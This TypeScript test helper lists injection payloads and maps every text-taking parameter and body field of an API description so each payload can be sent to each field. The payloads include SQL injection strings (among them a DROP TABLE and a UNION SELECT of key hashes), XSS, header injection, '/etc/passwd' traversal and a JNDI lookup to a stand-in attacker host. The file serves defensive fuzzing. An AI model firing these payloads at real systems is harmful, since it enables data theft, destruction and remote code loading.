/** Every place of the interface that takes text, found in its description, and what an attacker would put there. */

export const INJECTIONS = [
  `' OR '1'='1' --`,
  `'; DROP TABLE tenants; --`,
  `%' AND Name LIKE '%`,
  String.raw`\' OR Id != null OR Name = \'`,
  `x' UNION SELECT key_hash FROM tenant_keys --`,
  `o'x@evil.example`,
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `a\r\nSet-Cookie: a=b`,
  `\u0000`,
  `../../etc/passwd`,
  '${jndi:ldap://evil.example/a}',
  Buffer.from(`["2026-01-01T00:00:00.000Z","' or 1=1"]`).toString('base64url'),
  Buffer.from(JSON.stringify(['2026-01-01T00:00:00.000Z', '\u0000'])).toString('base64url'),
  Buffer.from(JSON.stringify(['-200000-01-01T00:00:00.000Z', 'x'])).toString('base64url'),
  '0000-01-01',
  '9999-12-31T23:59:59.999Z',
];

interface Schema {
  readonly type?: string;
  readonly enum?: readonly unknown[];
  readonly anyOf?: readonly Schema[];
  readonly items?: Schema;
  readonly properties?: Readonly<Record<string, Schema>>;
}

interface Operation {
  readonly parameters: readonly { readonly name?: string; readonly in?: string; readonly schema?: Schema }[];
  readonly requestBody?: { readonly content: { readonly 'application/json': { readonly schema: Schema } } };
}

export interface TextInput {
  readonly name: string;
  request(text: string): { method: string; path: string; body?: unknown };
}

const takesText = (schema: Schema): boolean =>
  schema.type === 'string' || (schema.enum ?? []).length > 0 || (schema.anyOf ?? []).some(takesText);

/** Something that lets the rest of a body pass, so that the one field is what is judged. */
function filler(schema: Schema): unknown {
  if (schema.enum) return schema.enum[0];
  if (schema.type === 'boolean') return false;
  return schema.type === 'array' ? [filler(schema.items ?? {})] : 'x';
}

function inBody(method: string, path: string, schema: Schema): TextInput[] {
  const properties = Object.entries(schema.properties ?? {});
  const rest = Object.fromEntries(properties.map(([name, property]) => [name, filler(property)]));
  return properties.flatMap(([name, property]) => {
    const isList = property.type === 'array' && takesText(property.items ?? {});
    if (!isList && !takesText(property)) return [];
    const request = (text: string) => ({ method, path, body: { ...rest, [name]: isList ? [text] : text } });
    return [{ name: `${method} ${path} body ${name}`, request }];
  });
}

/** @param document what `describeInterface` made */
export function textInputs(document: {
  readonly paths: Readonly<Record<string, Readonly<Record<string, Operation>>>>;
}): TextInput[] {
  return Object.entries(document.paths).flatMap(([template, verbs]) =>
    Object.entries(verbs).flatMap(([verb, operation]) => {
      const method = verb.toUpperCase();
      const path = template.replaceAll(/\{[^}]+\}/g, 'external-1');
      const parameters = operation.parameters.flatMap(({ name = '', in: where, schema }): TextInput[] => {
        if (schema === undefined || !takesText(schema)) return [];
        const address = (text: string) =>
          where === 'path'
            ? template.replace(`{${name}}`, encodeURIComponent(text))
            : `${path}?${name}=${encodeURIComponent(text)}`;
        return [{ name: `${method} ${template} ${name}`, request: (text) => ({ method, path: address(text) }) }];
      });
      const schema = operation.requestBody?.content['application/json'].schema;
      return [...parameters, ...(schema === undefined ? [] : inBody(method, path, schema))];
    }),
  );
}
